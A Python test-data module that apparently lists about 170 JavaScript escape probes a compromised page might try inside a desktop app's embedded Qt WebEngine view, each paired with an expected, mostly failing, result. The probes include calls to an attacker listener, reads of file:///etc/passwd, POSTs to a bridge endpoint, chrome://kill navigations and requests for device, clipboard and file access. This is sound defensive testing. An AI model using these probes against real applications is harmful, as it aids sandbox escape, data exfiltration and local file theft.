"""What a page of the service that has turned bad tries, as a table: name, kind, script, what its script may see.

`E` is the host and port of a listener of this attack's own, `O` those of the page's origin. Kinds: `quiet` ones run all
at once, `move` ones one after the other, `click` ones each in the handler of a real mouse click.
"""

# ruff: noqa: E501 - an attack a line

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

ANY = ".*"


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    kind: Literal["quiet", "move", "click"]
    code: str
    seen: str = ANY
    """A regular expression for what comes back: a value, or an exception's name."""
    connects: bool = False
    """The engine opens an empty connection, whatever is done: no byte is sent, and the page is not told."""


def quiet(name: str, code: str, seen: str = ANY, *, connects: bool = False) -> Attack:
    return Attack(name, "quiet", code, seen, connects)


def move(name: str, code: str, seen: str = ANY) -> Attack:
    return Attack(name, "move", code, seen)


def click(name: str, code: str, seen: str = ANY) -> Attack:
    return Attack(name, "click", code, seen)


STUN = "new RTCPeerConnection({iceServers: [{urls: %s, username: 'u', credential: 'p'}]})"
ICE = "; p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await wait(1200)"

REACHING = [
    quiet("fetch", "return fetch('http://' + E + '/rpc', {method: 'POST', body: '{}'})", "TypeError"),
    quiet("fetch, blind", "return fetch('http://' + E + '/rpc', {method: 'POST', mode: 'no-cors', body: 'x'})", "TypeError"),
    quiet("fetch, https", "return fetch('https://' + E + '/', {mode: 'no-cors'})", "TypeError"),
    quiet("fetch by another name", "return fetch('http://localhost:' + E.split(':')[1] + '/', {mode: 'no-cors'})", "TypeError"),
    quiet("fetch over IPv6", "return fetch('http://[::ffff:127.0.0.1]:' + E.split(':')[1] + '/', {mode: 'no-cors'})", "TypeError"),
    quiet("fetch, kept alive", "return fetch('http://' + E + '/', {keepalive: true, mode: 'no-cors'})", "TypeError"),
    quiet("fetch through a redirect", "return fetch('/away?http://' + E + '/', {mode: 'no-cors'})", "TypeError"),
    quiet("fetch later", "fetchLater('http://' + E + '/', {activateAfter: 0})"),
    quiet("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'http://' + E + '/', false); x.send()", "NetworkError"),
    quiet("beacon", "navigator.sendBeacon('http://' + E + '/', 'x')"),
    quiet("event source", "new EventSource('http://' + E + '/events')"),
    quiet("web socket", "new WebSocket('ws://' + E + '/')"),
    quiet("web socket over TLS", "new WebSocket('wss://' + E + '/')"),
    quiet("web socket stream", "new WebSocketStream('ws://' + E + '/')", "ReferenceError"),
    quiet("web transport", "await new WebTransport('https://' + E + '/').ready", "ReferenceError"),
    quiet("image", "new Image().src = 'http://' + E + '/x.png'"),
    quiet("image through a redirect", "new Image().src = '/away?http://' + E + '/x.png'"),
    quiet("image button", "put('input', {type: 'image', src: 'http://' + E + '/x.png'})"),
    quiet("attributed image", "put('img', {src: '/x.png'}, {attributionsrc: 'http://' + E + '/'})"),
    quiet("script", "put('script', {src: 'http://' + E + '/x.js'})"),
    quiet("module", "put('script', {type: 'module', src: 'http://' + E + '/x.js'})"),
    quiet("import", "return import('http://' + E + '/x.js')", "TypeError"),
    quiet("style sheet", "put('link', {rel: 'stylesheet', href: 'http://' + E + '/x.css'})"),
    quiet("background", "put('p', {style: 'background: url(http://' + E + '/x.png)', textContent: 'x'})"),
    quiet("imported style", "put('style', {textContent: '@import url(http://' + E + '/x.css)'})"),
    quiet("font", "return new FontFace('f', 'url(http://' + E + '/x.woff2)').load()", "NetworkError"),
    quiet("picture in SVG", "put('div', {innerHTML: '<svg><image href=http://' + E + '/x.png></svg>'})"),
    quiet("reference in SVG", "put('div', {innerHTML: '<svg><use href=http://' + E + '/x.svg#a></svg>'})"),
    quiet("filter in SVG", "put('div', {innerHTML: '<svg><filter id=f><feImage href=http://' + E + '/x.png></filter><rect width=9 height=9 filter=url(#f) /></svg>'})"),
    quiet("object", "put('object', {data: 'http://' + E + '/x'})"),
    quiet("embed", "put('embed', {src: 'http://' + E + '/x', type: 'application/pdf'})"),
    quiet("video", "put('video', {src: 'http://' + E + '/x.mp4', autoplay: true})"),
    quiet("audio", "new Audio('http://' + E + '/x.mp3').play()"),
    quiet("captions", "put('video', {src: '/x.mp4', crossOrigin: '', innerHTML: '<track default src=http://' + E + '/x.vtt>'}).textTracks[0].mode = 'showing'"),
    quiet("icon", "put('link', {rel: 'icon', href: 'http://' + E + '/x.ico'})"),
    quiet("manifest", "put('link', {rel: 'manifest', href: 'http://' + E + '/x.json'})"),
    quiet("prefetch", "put('link', {rel: 'prefetch', href: 'http://' + E + '/x'})"),
    quiet("preload", "put('link', {rel: 'preload', as: 'fetch', href: 'http://' + E + '/x'})"),
    quiet("module preload", "put('link', {rel: 'modulepreload', href: 'http://' + E + '/x.js'})"),
    quiet("preconnect", "put('link', {rel: 'preconnect', href: 'http://' + E})", connects=True),
    quiet("preconnect for cors", "put('link', {rel: 'preconnect', crossOrigin: '', href: 'http://' + E})", connects=True),
    quiet("preconnect by name", "put('link', {rel: 'preconnect', href: 'http://localhost:' + E.split(':')[1]})", connects=True),
    quiet("DNS prefetch", "put('link', {rel: 'dns-prefetch', href: 'http://' + E})"),
    quiet("prerender", "put('link', {rel: 'prerender', href: 'http://' + E + '/x'})"),
    quiet("speculation: prefetch", "put('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: ['http://' + E + '/x'], eagerness: 'immediate'}]})})"),
    quiet("speculation: prerender", "put('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list', urls: ['http://' + E + '/x'], eagerness: 'immediate'}]})})"),
    quiet("frame", "put('iframe', {src: 'http://' + E + '/'})"),
    quiet("frame through a redirect", "put('iframe', {src: '/away?http://' + E + '/'})"),
    quiet("fenced frame", "put('fencedframe').config = new FencedFrameConfig('http://' + E + '/')"),
    quiet("frame with a text of its own", "put('iframe', {srcdoc: '<img src=http://' + E + '/x.png><script>fetch(\"http://' + E + '/\")</' + 'script>'})"),
    quiet("frame with data", "put('iframe', {src: 'data:text/html,<script>parent.postMessage(' + JSON.stringify(name) + ', \"*\")</' + 'script>'}); await wait(500)", "undefined"),
    quiet("frame with a blob", "put('iframe', {src: URL.createObjectURL(new Blob(['<script>parent.postMessage(' + JSON.stringify(name) + ', \"*\")</' + 'script>'], {type: 'text/html'}))}); await wait(500)", "undefined"),
    quiet("empty frame's fetch", "return put('iframe').contentWindow.fetch('http://' + E + '/')", "TypeError"),
    quiet("form into a frame", "put('iframe', {name: 'inner'}); put('form', {action: 'http://' + E + '/rpc', method: 'post', target: 'inner'}).submit()"),
    quiet("frame with a script for an address", "put('iframe', {src: 'javascript:void fetch(\"http://' + E + '/\")'})"),
    quiet("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('http://${E}/', {mode: 'no-cors'})`])))"),
    quiet("worker's socket", "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://${E}/')`])))"),
    quiet("worker's transport", "new Worker(URL.createObjectURL(new Blob([`new WebTransport('https://${E}/')`]))); await wait(1200)"),
    quiet("worker from elsewhere", "new Worker('http://' + E + '/x.js')", "SecurityError"),
    quiet("worker of the service", "const w = new Worker('/worker.js?' + E); await new Promise((done) => { w.onerror = done; w.onmessage = done; setTimeout(done, 900) })"),
    quiet("shared worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://${E}/', {mode: 'no-cors'})`])))"),
    quiet("service worker", "await navigator.serviceWorker.register('/worker.js?' + E)", "TypeError|SecurityError|AbortError"),
    quiet("worklet", "await new AudioContext().audioWorklet.addModule('http://' + E + '/x.js')", "AbortError"),
    quiet("STUN", "const p = " + STUN % "'stun:' + E" + ICE, "ReferenceError"),
    quiet("TURN over TCP", "const p = " + STUN % "'turn:' + E + '?transport=tcp'" + ICE, "ReferenceError"),
    quiet("an old name for it", "new webkitRTCPeerConnection({iceServers: [{urls: 'stun:' + E}]})", "ReferenceError"),
    quiet("a text frame's TURN", "const f = put('iframe', {srcdoc: '<p>'}); await loaded(f); const {RTCPeerConnection} = f.contentWindow; const p = " + STUN % "'turn:' + E + '?transport=tcp'" + ICE, "TypeError"),
    quiet("a frame's TURN", "const f = put('iframe', {src: '/second'}); await loaded(f); const {RTCPeerConnection} = f.contentWindow; const p = " + STUN % "'turn:' + E + '?transport=tcp'" + ICE, "TypeError"),
    quiet("a script frame's TURN", "const f = put('iframe', {src: 'javascript:\"<p>\"'}); await wait(300); const {RTCPeerConnection} = f.contentWindow; const p = " + STUN % "'turn:' + E + '?transport=tcp'" + ICE, "TypeError"),
    quiet("payment", "await new PaymentRequest([{supportedMethods: 'https://' + E + '/pay'}], {total: {label: 'x', amount: {currency: 'CNY', value: '1'}}}).canMakePayment()"),
    quiet("federated sign-in", "await navigator.credentials.get({identity: {providers: [{configURL: 'https://' + E + '/x.json', clientId: '1'}]}})", "NetworkError|NotAllowedError|TypeError|NotSupportedError|undefined"),
    quiet("style from a file", "put('link', {rel: 'stylesheet', href: 'file:///etc/passwd'})"),
    quiet("script of the engine", "await new Promise((yes, no) => put('script', {src: 'qrc:///qtwebchannel/qwebchannel.js', onload: yes, onerror: () => no({name: 'refused'})})); return typeof QWebChannel", "refused"),
    quiet("fetch a file", "return fetch('file:///etc/passwd')", "TypeError"),
    quiet("frame with a file", "put('iframe', {src: 'file:///etc/passwd'})"),
    quiet("frame with the engine", "put('iframe', {src: 'chrome://gpu'})"),
]  # fmt: skip

MOVING = [
    move("location", "location = 'http://' + E + '/#t=1'"),
    move("location, replaced", "location.replace('http://' + E + '/')"),
    move("parent and top", "top.location = parent.location = 'http://' + E + '/'"),
    move("opened in place", "open('http://' + E + '/', '_self')"),
    move("link", "put('a', {href: 'http://' + E + '/'}).click()"),
    move("link that tells", "put('a', {href: '#x', ping: 'http://' + E + '/'}).click()"),
    move("link for the top", "put('a', {href: 'http://' + E + '/', target: '_top'}).click()"),
    move("form", "put('form', {action: 'http://' + E + '/'}).submit()"),
    move("form to the bridge", "put('form', {action: 'http://' + E + '/rpc', method: 'post', enctype: 'text/plain'}).submit()"),
    move("form through a redirect", "put('form', {action: '/away?http://' + E + '/', method: 'post'}).submit()"),
    move("form through a redirect that keeps it", "put('form', {action: '/away307?http://' + E + '/', method: 'post'}).submit()"),
    move("redirect", "location = '/away?http://' + E + '/'"),
    move("redirect to a scheme", "location = '/away?weird-scheme:foo'"),
    move("meta refresh", "put('meta', {httpEquiv: 'refresh', content: '0;url=http://' + E + '/'}); await wait(200)"),
    move("frame that moves the top", "put('iframe', {srcdoc: '<script>top.location = \"http://' + E + '/\"</' + 'script>'}); await wait(200)"),
    move("another port of this host", "location.port = E.split(':')[1]"),
    move("another name of this host", "location = 'http://localhost:' + location.port + '/second'"),
    move("name in front", "location = 'http://' + O + '@' + E + '/'"),
    move("name of a person", "location = 'http://user:word@' + O + '/second'"),
    move("longer name", "location = 'http://' + O + '.evil.example/'"),
    move("https", "location.protocol = 'https:'"),
    move("history", "history.pushState(0, '', 'http://' + E + '/register/finished')", "SecurityError"),
    move("file", "location = 'file:///etc/passwd'"),
    move("engine's files", "location = 'qrc:///qtwebchannel/qwebchannel.js'"),
    move("engine's pages", "location = 'chrome://gpu'"),
    move("engine's crash", "location = 'chrome://crash'"),
    move("engine's end", "location = 'chrome://kill'"),
    move("devtools", "location = 'devtools://devtools/bundled/inspector.html'"),
    move("source", "location = 'view-source:' + location.origin + '/second'"),
    move("data", "location = 'data:text/html,<h1>x'"),
    move("blob", "location = URL.createObjectURL(new Blob(['<h1>x'], {type: 'text/html'}))"),
    move("file system", "location = 'filesystem:' + location.origin + '/temporary/x'"),
    move("script in an address", "put('a', {href: 'javascript:void fetch(\"http://' + E + '/\")'}).click()"),
    move("mail", "location = 'mailto:a@b.example'"),
    move("telephone", "location = 'tel:123'"),
    move("unknown scheme", "location = 'weird-scheme:foo'"),
    move("unknown scheme in a frame", "put('iframe', {src: 'weird-scheme:foo'})"),
    move("download", "put('a', {href: '/file.bin', download: 'kept.bin'}).click()"),
    move("download of a blob", "put('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'kept.txt'}).click()"),
    move("download by type", "location = '/file.bin'; await wait(100)"),
    move("download by header", "location = '/attached.html'; await wait(100)"),
    move("PDF", "location = '/doc.pdf'; await wait(100)"),
    move("window without a click", "return open('http://' + E + '/')", "null"),
    move("close", "window.close()"),
    move("size and place", "window.moveTo(0, 0); window.resizeTo(100, 100)"),
    move("huge title", "document.title = '协卡助手 '.repeat(1e6)"),
    move("alert", "return alert('x'.repeat(1e6))", "undefined"),
    move("confirm", "return confirm('x')", "false"),
    move("prompt", "return prompt('x')", "null"),
    move("print", "return print()", "undefined"),
    move("pywebview", "return typeof window.pywebview", "undefined"),
    move("Qt's channel", "return typeof window.qt + typeof window.QWebChannel", "undefinedundefined"),
    move("other bridges", "return typeof chrome?.webview + typeof window.webkit?.messageHandlers + typeof window.external?.call", "(undefined)+"),
    move("opener", "return window.opener", "null"),
    move("place", "return new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))", "1"),
    move("notifications", "return Notification.requestPermission()", "denied"),
    move("camera", "return navigator.mediaDevices.getUserMedia({video: true, audio: true})", "Not(Allowed|Found)Error"),
    move("clipboard", "return navigator.clipboard.readText()", "NotAllowedError"),
    move("paste", "return document.execCommand('paste')", "false"),
    move("fonts of this computer", "return queryLocalFonts()", "SecurityError|NotAllowedError|ReferenceError"),
    move("storage that stays", "return navigator.storage.persist()", "false"),
    move("WebGL", "return document.createElement('canvas').getContext('webgl')", "null"),
    move("plug-ins", "return navigator.plugins.length", "0"),
]  # fmt: skip

CLICKED = [
    click("window", "const w = open('http://' + E + '/'); await wait(300); return w === null || w.closed", "true"),
    click("window of the service", "const w = open('/second'); await wait(300); return w === null || w.closed", "true"),
    click("window for a scheme", "const w = open('weird-scheme:foo'); await wait(300); return w === null || w.closed", "true"),
    click("empty window", "const w = open(''); w?.fetch('http://' + E + '/'); await wait(300); return w === null || w.closed", "true"),
    click("empty window's TURN", "const {RTCPeerConnection} = open(''); const p = " + STUN % "'turn:' + E + '?transport=tcp'" + ICE),
    click("link to a new window", "put('a', {href: 'http://' + E + '/', target: '_blank'}).click()"),
    click("form in a new window", "put('form', {action: 'http://' + E + '/', target: '_blank'}).submit()"),
    click("picture in picture", "return documentPictureInPicture.requestWindow()", "\\w*Error"),
    click("mail after a click", "put('a', {href: 'mailto:a@b.example'}).click()"),
    click("scheme after a click", "put('a', {href: 'weird-scheme:foo'}).click()"),
    click("full screen", "return document.body.requestFullscreen()", "TypeError"),
    click("locked mouse", "document.body.requestPointerLock(); await wait(100); return document.pointerLockElement", "null"),
    click("file chooser", "const i = put('input', {type: 'file'}); i.click(); await wait(200); return i.files.length", "0"),
    click("file picker", "return showOpenFilePicker()", "AbortError|NotAllowedError|SecurityError|ReferenceError"),
    click("folder picker", "return showDirectoryPicker()", "AbortError|NotAllowedError|SecurityError|ReferenceError"),
    click("save picker", "return showSaveFilePicker()", "AbortError|NotAllowedError|SecurityError|ReferenceError"),
    click("screen", "return navigator.mediaDevices.getDisplayMedia()", "AbortError|NotAllowedError|NotReadableError|InvalidStateError"),
    click("protocol handler", "navigator.registerProtocolHandler('web+xieka', '/second?%s')"),
    click("clipboard after a click", "return navigator.clipboard.readText()", "NotAllowedError"),
    click("writing the clipboard", "return navigator.clipboard.writeText('x')", "NotAllowedError"),
    click("USB", "return navigator.usb.requestDevice({filters: []})", "NotFoundError|SecurityError|TypeError|NotAllowedError"),
    click("HID", "return navigator.hid.requestDevice({filters: []})", "NotFoundError|SecurityError|TypeError|NotAllowedError|"),
    click("serial port", "return navigator.serial.requestPort()", "NotFoundError|SecurityError|TypeError|NotAllowedError"),
    click("Bluetooth", "return navigator.bluetooth.requestDevice({acceptAllDevices: true})", "NotFoundError|SecurityError|TypeError|NotAllowedError"),
    click("MIDI", "return navigator.requestMIDIAccess()", "NotAllowedError|SecurityError|AbortError|TypeError"),
    click("print after a click", "return print()", "undefined"),
    click("key of this computer", "return navigator.credentials.create({publicKey: {challenge: new Uint8Array(16), rp: {name: 'x'}, user: {id: new Uint8Array(8), name: 'x', displayName: 'x'}, pubKeyCredParams: [{type: 'public-key', alg: -7}], timeout: 300}})", "\\w*Error"),
]  # fmt: skip

ATTACKS = REACHING + MOVING + CLICKED
